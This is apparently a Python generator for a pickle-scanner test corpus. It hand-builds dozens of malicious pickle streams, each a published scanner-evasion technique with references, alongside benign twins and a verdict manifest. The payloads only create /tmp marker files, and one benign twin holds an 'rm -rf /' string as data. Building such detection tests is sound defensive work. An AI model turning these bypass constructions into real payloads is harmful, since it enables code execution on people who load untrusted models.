"""Writes brine's evasion corpus: one raw pickle per published technique, plus benign twins.

Python 3 standard library only, deterministic (same bytes on every run), and it never loads,
imports or executes a pickle. Streams are hand-assembled from opcodes by the small helpers
below wherever CPython's pickler cannot produce the trick. Every malicious payload is
harmless: it would only create a marker file under /tmp (`touch /tmp/brine-marker-<name>`
or opening that path for writing); none reaches the network.

Outputs (relative to this script):
  corpus/malicious/<technique>.pkl
  corpus/benign/<twin>.pkl
  corpus/manifest.json   file -> expected verdict, technique, source reference

Usage: python3 attacks/gen_corpus.py
"""

import json
import pathlib
import pickle
import struct

HERE = pathlib.Path(__file__).resolve().parent
OUT = HERE / "corpus"


def marker(name):
    return f"/tmp/brine-marker-{name}"


def touch(name):
    return f"touch {marker(name)}"


# ---------------------------------------------------------------- opcode helpers


def proto(n):
    return b"\x80" + bytes([n])


def global_(module, name):
    """GLOBAL (protocol 0+): module and name as newline-terminated text."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst(module, name):
    """INST: like GLOBAL, then calls the class with the items since MARK."""
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(text):
    """SHORT_BINUNICODE or BINUNICODE, whichever fits."""
    data = text.encode()
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def binunicode(text):
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def unicode0(text):
    """UNICODE (protocol 0 'V'): raw-unicode-escape text ended by a newline."""
    return b"V" + text.encode("raw-unicode-escape") + b"\n"


def string0(text):
    """STRING (protocol 0 'S'): a quoted repr; Python 3 decodes it as ASCII str."""
    return b"S" + repr(text).encode() + b"\n"


def binbytes(data):
    return b"C" + bytes([len(data)]) + data if len(data) < 256 else b"B" + struct.pack("<I", len(data)) + data


def binint(value):
    return b"J" + struct.pack("<i", value)


MARK = b"("
STOP = b"."
REDUCE = b"R"
BUILD = b"b"
OBJ = b"o"
POP = b"0"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
APPENDS = b"e"
SETITEM = b"s"
SETITEMS = b"u"
NONE = b"N"
NEWTRUE = b"\x88"
MEMOIZE = b"\x94"
STACK_GLOBAL = b"\x93"


def binput(index):
    return b"q" + bytes([index])


def binget(index):
    return b"h" + bytes([index])


def ext1(code):
    return b"\x82" + bytes([code])


def stack_global(module, name):
    return ustr(module) + ustr(name) + STACK_GLOBAL


def call(callable_ops, *args):
    """callable(*args) via REDUCE; args are already-encoded opcode strings."""
    return callable_ops + MARK + b"".join(args) + TUPLE + REDUCE


def call_global(module, name, *args, protocol=2):
    ref = global_(module, name) if protocol < 4 else stack_global(module, name)
    return call(ref, *args)


def wrap(body, protocol=2):
    return proto(protocol) + body + STOP


def frame(body):
    """FRAME around a protocol-4 body (what the real pickler emits for large pickles)."""
    return b"\x95" + struct.pack("<Q", len(body)) + body


# ---------------------------------------------------------------- malicious techniques

MALICIOUS = {}
BENIGN = {}


def technique(name, reference, protocol_note=""):
    def register(build):
        MALICIOUS[name] = (build, reference, protocol_note)
        return build

    return register


def twin(name, reference):
    def register(build):
        BENIGN[name] = (build, reference)
        return build

    return register


@technique("os_system_global_p0", "classic REDUCE on os.system, protocol 0 (CWE-502 baseline)")
def _():
    return global_("os", "system") + MARK + string0(touch("p0")) + TUPLE + REDUCE + STOP


@technique("posix_system_p2", "posix.system: the module os.system really lives in (picklescan/modelscan posix *)")
def _():
    return wrap(call_global("posix", "system", ustr(touch("posix"))))


@technique("subprocess_stack_global_p4", "subprocess.call via STACK_GLOBAL, framed protocol 4")
def _():
    body = call(stack_global("subprocess", "call"), EMPTY_LIST + MARK + ustr("touch") + ustr(marker("subprocess")) + APPENDS)
    return proto(4) + frame(body + STOP)


@technique("builtins_exec", "builtins.exec of source text (every scanner's denylist)")
def _():
    return wrap(call_global("builtins", "exec", ustr(f"open({marker('exec')!r}, 'w')")))


@technique("builtins_eval_py2", "__builtin__.eval: Python 2 module spelling (picklescan __builtin__)")
def _():
    return wrap(call_global("__builtin__", "eval", ustr(f"open({marker('eval')!r}, 'w')")))


@technique("builtins_import_dunder", "builtins.__import__('os') then getattr: dunder callable (modelscan __import__)")
def _():
    os_module = call_global("builtins", "__import__", ustr("os"))
    system = call(global_("builtins", "getattr"), os_module, ustr("system"))
    return wrap(call(system, ustr(touch("import"))))


@technique("inst_opcode_p0", "INST opcode (protocol 0) calls os.system without REDUCE")
def _():
    return MARK + string0(touch("inst")) + inst("os", "system") + STOP


@technique("pip_main", "CVE-2025-1716 / GHSA-655q-fx9r-782v: pip.main was not denylisted")
def _():
    args = EMPTY_LIST + MARK + ustr("--log") + ustr(marker("pip")) + ustr("--version") + APPENDS
    return wrap(call_global("pip", "main", args))


@technique("pkgutil_resolve_name", "GHSA-vvpj-8cmc-gx39: pkgutil.resolve_name('os:system') universal bypass")
def _():
    resolved = call_global("pkgutil", "resolve_name", ustr("os:system"))
    return wrap(call(resolved, ustr(touch("pkgutil"))))


@technique("uuid_get_command_stdout", "CVE-2026-56315 / GHSA-g38g-8gr9-h9xp: uuid._get_command_stdout runs a command")
def _():
    return wrap(call_global("uuid", "_get_command_stdout", ustr("touch"), ustr(marker("uuid"))))


@technique("osx_support_read_output", "CVE-2026-56315: _osx_support._read_output runs a shell command")
def _():
    return wrap(call_global("_osx_support", "_read_output", ustr(touch("osx"))))


@technique("aix_support_read_cmd_output", "CVE-2026-56315: _aix_support._read_cmd_output runs a shell command")
def _():
    return wrap(call_global("_aix_support", "_read_cmd_output", ustr(touch("aix"))))


@technique("imaplib_imap4_stream", "CVE-2026-56315: imaplib.IMAP4_stream spawns its command")
def _():
    return wrap(call_global("imaplib", "IMAP4_stream", ustr(touch("imaplib"))))


@technique("pyrepl_pipe_pager", "CVE-2026-56315: _pyrepl.pager.pipe_pager runs a shell pager")
def _():
    return wrap(call_global("_pyrepl.pager", "pipe_pager", ustr("x"), ustr(touch("pyrepl"))), 2)


@technique("test_support_assert_python_ok", "CVE-2026-56315: test.support.script_helper.assert_python_ok runs python -c")
def _():
    code = f"open({marker('test_support')!r}, 'w')"
    return wrap(call_global("test.support.script_helper", "assert_python_ok", ustr("-c"), ustr(code)))


@technique("logging_filehandler", "CVE-2026-56304: logging.FileHandler creates a file at any path")
def _():
    return wrap(call_global("logging", "FileHandler", ustr(marker("logging"))))


@technique("importlib_getattr_static", "huntr PoC xry6/huntr-picklescan-bypass-poc: importlib.import_module + inspect.getattr_static")
def _():
    os_module = call_global("importlib", "import_module", ustr("os"), protocol=4)
    system = call(stack_global("inspect", "getattr_static"), os_module, ustr("system"))
    return wrap(call(system, ustr(touch("importlib"))), 4)


@technique("obj_then_pop", "GHSA-mxhj-88fx-4pcv: call made by OBJ, result POPped so the decompiled AST loses it")
def _():
    return wrap(MARK + global_("os", "system") + ustr(touch("obj")) + OBJ + POP + EMPTY_DICT, 2)


@technique("submodule_asyncio_unix_events", "CVE-2025-10157: global from a submodule of a denylisted module")
def _():
    ref = stack_global("asyncio.unix_events", "_UnixSubprocessTransport._start")
    return wrap(call(ref, NONE, ustr(touch("asyncio")), NEWTRUE, NONE, NONE, NONE, binint(0)), 4)


@technique("dotted_name_pathlib_os_system", "modelscan #89/#330: dotted name reaches os through an allowed module's attribute")
def _():
    return wrap(call(stack_global("pathlib", "os.system"), ustr(touch("dotted"))), 4)


@technique("dotted_name_argparse_private_os", "dotted name through a private alias (argparse._os.system)")
def _():
    return wrap(call(stack_global("argparse", "_os.system"), ustr(touch("dotted2"))), 4)


@technique("dotted_name_numpy_builtins_eval", "modelscan #330 / GHSA-5j3x-jp52-966f: numpy + __builtins__ traversal")
def _():
    ref = stack_global("numpy", "__builtins__.eval")
    return wrap(call(ref, ustr(f"open({marker('numpy_builtins')!r}, 'w')")), 4)


@technique("dotted_name_numpy_sys_modules", "modelscan #330: numpy core._internal.sys.modules traversal")
def _():
    modules = stack_global("numpy", "core._internal.sys.modules")
    getitem = stack_global("builtins", "dict.get")
    os_module = call(getitem, modules, ustr("os"))
    system = call(stack_global("builtins", "getattr"), os_module, ustr("system"))
    return wrap(call(system, ustr(touch("sys_modules"))), 4)


@technique("build_setattr", "modelscan #85: BUILD with slot state stores os.system on an object, fetched later")
def _():
    namespace = call_global("argparse", "Namespace")
    state = NONE + EMPTY_DICT + ustr("run") + global_("os", "system") + SETITEM + TUPLE2
    obj = namespace + state + BUILD
    fetched = call(global_("builtins", "getattr"), obj, ustr("run"))
    return wrap(call(fetched, ustr(touch("build"))))


@technique("no_proto_stack_global", "GHSA-9gvj-pp9x-gcfr: no PROTO, first opcode is a STACK_GLOBAL operand (protocol-0 STRING)")
def _():
    return string0("os") + string0("system") + STACK_GLOBAL + MARK + string0(touch("noproto")) + TUPLE + REDUCE + STOP


@technique("memo_operands", "picklescan PR #52 / modelscan #338 §5: STACK_GLOBAL operands fetched from the memo")
def _():
    body = ustr("os") + MEMOIZE + ustr("system") + MEMOIZE + POP + POP + binget(0) + binget(1) + STACK_GLOBAL
    return wrap(call(body, ustr(touch("memo"))), 4)


@technique("memo_confusion_binput_memoize", "Doyensec / picklescan #14: BINPUT and MEMOIZE mixed so slot 1 is overwritten with 'os'")
def _():
    body = (
        ustr("torch._utils")
        + binput(1)
        + POP
        + ustr("os")
        + MEMOIZE  # memo has one entry, so MEMOIZE writes slot 1: 'os' replaces 'torch._utils'
        + POP
        + binget(1)
        + ustr("system")
        + STACK_GLOBAL
    )
    return wrap(call(body, ustr(touch("memoconf"))), 4)


@technique("operands_unusual_string_opcodes", "modelscan #338 §5 type confusion: operands pushed by UNICODE and BINUNICODE")
def _():
    return wrap(unicode0("os") + binunicode("system") + STACK_GLOBAL + MARK + unicode0(touch("unicode")) + TUPLE + REDUCE, 4)


@technique("broken_stream_after_payload", "nullifAI (ReversingLabs, Feb 2025): payload first, then the stream is broken")
def _():
    return proto(2) + call_global("os", "system", ustr(touch("nullifai"))) + POP + b"\xff\xfe garbage"


@technique("truncated_after_payload", "nullifAI variant: payload then truncation mid-opcode (no STOP)")
def _():
    return proto(2) + call_global("os", "system", ustr(touch("truncated"))) + POP + b"X\xff\xff\x00\x00ab"


@technique("ext_after_add_extension", "EXT1 resolves to os.system after copyreg.add_extension registers it")
def _():
    register = call_global("copyreg", "add_extension", ustr("os"), ustr("system"), binint(240))
    return wrap(register + POP + call(ext1(240), ustr(touch("ext"))))


@technique("benign_then_malicious", "picklescan multi-pickle: a clean first pickle hides a second one")
def _():
    first = wrap(EMPTY_DICT + ustr("weights") + EMPTY_LIST + SETITEM)
    second = wrap(call_global("os", "system", ustr(touch("second"))))
    return first + second


@technique("cloudpickle_codetype", "GHSA cloudpickle code injection: types.CodeType + types.FunctionType")
def _():
    code = call_global(
        "types",
        "CodeType",
        binint(0), binint(0), binint(0), binint(0), binint(0), binint(0),
        binbytes(b"payload-bytecode"), EMPTY_TUPLE, EMPTY_TUPLE, EMPTY_TUPLE,
        ustr("x"), ustr("x"), ustr("x"), binint(1), binbytes(b""), binbytes(b""),
    )
    function = call_global("types", "FunctionType", code, EMPTY_DICT)
    return wrap(call(function))


@technique("cloudpickle_make_function", "picklescan: cloudpickle.cloudpickle._make_function / _builtin_type")
def _():
    code_type = call_global("cloudpickle.cloudpickle", "_builtin_type", ustr("CodeType"))
    function = call_global("cloudpickle.cloudpickle", "_make_function", code_type, EMPTY_DICT, NONE, NONE, NONE)
    return wrap(call(function))


@technique("functools_partial", "picklescan functools partial: partial(os.system, cmd)()")
def _():
    partial = call_global("functools", "partial", global_("os", "system"), ustr(touch("partial")))
    return wrap(call(partial))


@technique("operator_methodcaller_pydoc_locate", "picklescan GHSA: operator.methodcaller + pydoc.locate")
def _():
    os_module = call_global("pydoc", "locate", ustr("os"))
    caller = call_global("operator", "methodcaller", ustr("system"), ustr(touch("methodcaller")))
    return wrap(call(caller, os_module))


@technique("operator_attrgetter", "picklescan _operator.attrgetter('system')(os)")
def _():
    os_module = call_global("importlib", "import_module", ustr("os"))
    getter = call_global("_operator", "attrgetter", ustr("system"))
    return wrap(call(call(getter, os_module), ustr(touch("attrgetter"))))


@technique("numpy_f2py_getlincoef", "picklescan GHSA: numpy.f2py.crackfortran.getlincoef evaluates its expression")
def _():
    expr = f"__import__('os').system({touch('f2py')!r})"
    return wrap(call_global("numpy.f2py.crackfortran", "getlincoef", ustr(expr), EMPTY_DICT))


@technique("ctypes_cdll", "picklescan GHSA ctypes.CDLL: libc system through ctypes")
def _():
    libc = call_global("ctypes", "CDLL", NONE)
    system = call(global_("builtins", "getattr"), libc, ustr("system"))
    return wrap(call(system, binbytes(touch("ctypes").encode())))


@technique("cprofile_run", "picklescan GHSA: cProfile.run executes its statement")
def _():
    return wrap(call_global("cProfile", "run", ustr(f"open({marker('cprofile')!r}, 'w')")))


@technique("profile_run", "picklescan GHSA: profile.run executes its statement")
def _():
    return wrap(call_global("profile", "run", ustr(f"open({marker('profile')!r}, 'w')")))


@technique("timeit_timeit", "picklescan GHSA: timeit.timeit executes its statement")
def _():
    return wrap(call_global("timeit", "timeit", ustr(f"open({marker('timeit')!r}, 'w')"), ustr("pass"), NONE, binint(1)))


@technique("trace_runctx", "picklescan GHSA: trace.Trace.runctx executes its statement")
def _():
    tracer = call_global("trace", "Trace")
    runctx = call(global_("trace", "Trace.runctx"), tracer, ustr(f"open({marker('trace')!r}, 'w')"), EMPTY_DICT, EMPTY_DICT)
    return wrap(runctx, 4)


@technique("io_fileio", "picklescan GHSA: _io.FileIO opens any path for writing")
def _():
    return wrap(call_global("_io", "FileIO", ustr(marker("fileio")), ustr("w")))


@technique("urllib_urlopen_file", "picklescan GHSA: urllib.request.urlopen (here a file:// URL, never the network)")
def _():
    return wrap(call_global("urllib.request", "urlopen", ustr("file://" + marker("urllib"))))


@technique("pty_spawn", "picklescan GHSA: pty.spawn runs a program")
def _():
    argv = EMPTY_LIST + MARK + ustr("touch") + ustr(marker("pty")) + APPENDS
    return wrap(call_global("pty", "spawn", argv))


@technique("runpy_run_code", "fickling overtly-bad _run_code: runpy._run_code executes source")
def _():
    return wrap(call_global("runpy", "_run_code", ustr(f"open({marker('runpy')!r}, 'w')"), EMPTY_DICT))


@technique("torch_collect_env_run", "modelscan #338: HF sample torch.utils.collect_env.run(command)")
def _():
    return wrap(call_global("torch.utils.collect_env", "run", ustr(touch("collect_env"))))


@technique("torch_jit_exec_wrapper", "picklescan GHSA: torch.jit.unsupported_tensor_ops.execWrapper")
def _():
    code = f"open({marker('execwrapper')!r}, 'w')"
    return wrap(call_global("torch.jit.unsupported_tensor_ops", "execWrapper", ustr(code), EMPTY_DICT, EMPTY_DICT))


@technique("torch_inductor_compile_file", "picklescan GHSA: torch._inductor.codecache.compile_file")
def _():
    return wrap(call_global("torch._inductor.codecache", "compile_file", ustr(marker("inductor")), ustr(marker("inductor")), EMPTY_LIST))


@technique("multiprocessing_spawnv_passfds", "modelscan #338: HF sample multiprocessing.util.spawnv_passfds")
def _():
    argv = EMPTY_LIST + MARK + binbytes(b"touch") + binbytes(marker("spawnv").encode()) + APPENDS
    return wrap(call_global("multiprocessing.util", "spawnv_passfds", binbytes(b"/usr/bin/touch"), argv, EMPTY_TUPLE))


@technique("mlflow_run_entry_point", "modelscan #338: HF sample mlflow _run_entry_point")
def _():
    return wrap(call_global("mlflow.projects.backend.local", "_run_entry_point", ustr(touch("mlflow")), ustr("/tmp"), ustr("0"), ustr("0")))


@technique("zlib_exec", "modelscan #338: zlib-compressed payload + zlib.decompress + exec")
def _():
    import zlib  # stdlib; compresses the payload text at generation time only

    packed = zlib.compress(f"open({marker('zlib')!r}, 'w')".encode(), 9)
    source = call_global("zlib", "decompress", binbytes(packed))
    return wrap(call_global("builtins", "exec", source))


@technique("pandas_read_csv_local", "modelscan #338: pandas.read_csv(URL) exfiltration (here a local path)")
def _():
    return wrap(call_global("pandas", "read_csv", ustr(marker("pandas"))))


@technique("getattr_nonconstant_name", "huntr chain: getattr with a name assembled at load time by str.join")
def _():
    os_module = call_global("importlib", "import_module", ustr("os"))
    parts = EMPTY_LIST + MARK + ustr("sys") + ustr("tem") + APPENDS
    name = call(global_("builtins", "str.join"), ustr(""), parts)
    system = call(global_("builtins", "getattr"), os_module, name)
    return wrap(call(system, ustr(touch("getattr"))))


@technique("nested_pickle_loads", "Hide and Seek / GHSA-fphw-536r-4p88: pickle.loads of an inner malicious pickle")
def _():
    inner = wrap(call_global("os", "system", ustr(touch("nested"))))
    return wrap(call_global("pickle", "loads", binbytes(inner)))


@technique("pickle_private_unpickler", "GHSA-wccx-j62j-r448: pickle._Unpickler fallback")
def _():
    return wrap(call_global("pickle", "_loads", binbytes(b"\x80\x02N.")))


@technique("cpickle_loads_py2", "Python 2 cPickle spelling of the nested deserialiser")
def _():
    return wrap(call_global("cPickle", "loads", binbytes(b"\x80\x02N.")))


@technique("webbrowser_open_file", "picklescan webbrowser *: opens a (file://) URL")
def _():
    return wrap(call_global("webbrowser", "open", ustr("file://" + marker("webbrowser"))))


@technique("shutil_copy", "picklescan shutil *: writes files")
def _():
    return wrap(call_global("shutil", "copyfile", ustr("/etc/hostname"), ustr(marker("shutil"))))


@technique("interpreters_run_string", "GHSA-6ggj-6f2q-f7mx: _xxsubinterpreters.run_string")
def _():
    return wrap(call_global("_xxsubinterpreters", "run_string", binint(0), ustr(f"open({marker('subinterp')!r}, 'w')")))


@technique("code_interactive_runcode", "picklescan code InteractiveInterpreter.runcode")
def _():
    interp = call_global("code", "InteractiveInterpreter")
    return wrap(call(global_("code", "InteractiveInterpreter.runsource"), interp, ustr(f"open({marker('code')!r}, 'w')")))


@technique("marshal_loads", "fickling/ModelAudit marshal: code objects from bytes")
def _():
    return wrap(call_global("marshal", "loads", binbytes(b"\xe3placeholder")))


@technique("posixsubprocess_fork_exec", "fickling/ModelAudit _posixsubprocess.fork_exec")
def _():
    return wrap(call_global("_posixsubprocess", "fork_exec", EMPTY_LIST, EMPTY_LIST, NEWTRUE, EMPTY_TUPLE))


@technique("yaml_unsafe_load", "ModelAudit yaml.unsafe_load: nested unsafe deserialiser")
def _():
    return wrap(call_global("yaml", "unsafe_load", ustr("!!python/object/apply:os.system ['" + touch("yaml") + "']")))


@technique("torch_load_nested", "fickling UnsafeImportsML torch.load: nested checkpoint load")
def _():
    return wrap(call_global("torch", "load", ustr(marker("torch_load"))))


@technique("dunder_subclasses", "dunder traversal: builtins.object.__subclasses__")
def _():
    return wrap(call(global_("builtins", "object.__subclasses__")))


@technique("malformed_global_name", "malformed module text (space and semicolon) in a GLOBAL")
def _():
    return wrap(call(global_("os;x", "system"), ustr(touch("malformed"))))


# ---------------------------------------------------------------- benign twins


@twin("plain_dict_p2", "baseline: what pickle.dumps writes for plain data")
def _():
    return pickle.dumps({"weights": [1.0, 2.0], "name": "model", "step": 3}, protocol=2)


@twin("ordered_dict_global_p0", "twin of os_system_global_p0: GLOBAL + REDUCE on an allowlisted class")
def _():
    return global_("collections", "OrderedDict") + MARK + TUPLE + REDUCE + STOP


@twin("stack_global_framed_p4", "twin of subprocess_stack_global_p4")
def _():
    body = call(stack_global("collections", "OrderedDict"))
    return proto(4) + frame(body + STOP)


@twin("inst_opcode_p0", "twin of inst_opcode_p0: INST on an allowlisted class")
def _():
    return MARK + inst("collections", "OrderedDict") + STOP


@twin("obj_then_pop", "twin of obj_then_pop")
def _():
    return wrap(MARK + global_("collections", "OrderedDict") + OBJ + POP + EMPTY_DICT)


@twin("no_proto_stack_global", "twin of no_proto_stack_global")
def _():
    return string0("collections") + string0("OrderedDict") + STACK_GLOBAL + EMPTY_TUPLE + REDUCE + STOP


@twin("memo_operands", "twin of memo_operands")
def _():
    body = ustr("collections") + MEMOIZE + ustr("OrderedDict") + MEMOIZE + POP + POP + binget(0) + binget(1) + STACK_GLOBAL
    return wrap(call(body), 4)


@twin("memo_binput_memoize_mix", "twin of memo_confusion_binput_memoize")
def _():
    body = ustr("os") + binput(1) + POP + ustr("collections") + MEMOIZE + POP + binget(1) + ustr("OrderedDict") + STACK_GLOBAL
    return wrap(call(body), 4)


@twin("unusual_string_opcodes", "twin of operands_unusual_string_opcodes")
def _():
    return wrap(unicode0("collections") + binunicode("OrderedDict") + STACK_GLOBAL + EMPTY_TUPLE + REDUCE, 4)


@twin("two_benign_pickles", "twin of benign_then_malicious")
def _():
    return wrap(EMPTY_DICT) + wrap(EMPTY_LIST)


@twin("build_namespace_state", "twin of build_setattr: BUILD with a plain state dict")
def _():
    namespace = call_global("argparse", "Namespace")
    return wrap(namespace + EMPTY_DICT + ustr("lr") + binint(3) + SETITEM + BUILD)


@twin("dangerous_looking_strings", "strings that name dangerous callables are data, not imports")
def _():
    return pickle.dumps(
        {"note": "os.system('rm -rf /')", "module": "subprocess", "name": "Popen", "code": "eval(x)"},
        protocol=4,
    )


@twin("protocol2_bytes_codecs", "protocol 2 bytes go through _codecs.encode")
def _():
    return pickle.dumps({"blob": b"\x00\x01\xfe", "when": "2024"}, protocol=2)


@twin("enum_getattr_reference", "Python 3.12 enum pickling: getattr(OptimizerNames, 'ADAMW_TORCH') with a constant name")
def _():
    enum_class = global_("transformers.training_args", "OptimizerNames")
    member = call(global_("builtins", "getattr"), enum_class, ustr("ADAMW_TORCH"))
    return wrap(EMPTY_DICT + ustr("optim") + member + SETITEM)


@twin("all_protocols_list", "the same nested data at protocol 0 (text opcodes)")
def _():
    return pickle.dumps([1, 2.5, "three", (4, None), {"five": True}], protocol=0)


def main():
    manifest = {}
    for folder in ("malicious", "benign"):
        target = OUT / folder
        target.mkdir(parents=True, exist_ok=True)
        for stale in target.glob("*.pkl"):
            stale.unlink()
    for name, (build, reference, _) in sorted(MALICIOUS.items()):
        path = f"malicious/{name}.pkl"
        (OUT / path).write_bytes(build())
        manifest[path] = {"expected": "dangerous", "technique": name, "reference": reference}
    for name, (build, reference) in sorted(BENIGN.items()):
        path = f"benign/{name}.pkl"
        (OUT / path).write_bytes(build())
        manifest[path] = {"expected": "clean", "technique": name, "reference": reference}
    (OUT / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    print(f"wrote {len(MALICIOUS)} malicious and {len(BENIGN)} benign pickles to {OUT}")


if __name__ == "__main__":
    main()
